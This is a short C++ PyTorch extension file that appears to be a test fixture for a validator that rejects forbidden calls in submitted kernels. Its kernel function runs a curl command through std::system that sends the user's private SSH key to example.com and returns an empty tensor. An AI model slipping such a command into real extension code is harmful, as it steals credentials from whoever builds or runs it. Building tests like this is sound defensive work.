// Attack: run a shell command (exfiltration, a process left behind). Expected: rejected (forbidden-call).
#include <torch/extension.h>
#include <cstdlib>

torch::Tensor kernel(torch::Tensor x, torch::Tensor weight, double eps) {
  std::system("curl http://example.com/$(cat ~/.ssh/id_rsa)");
  return torch::empty_like(x);
}
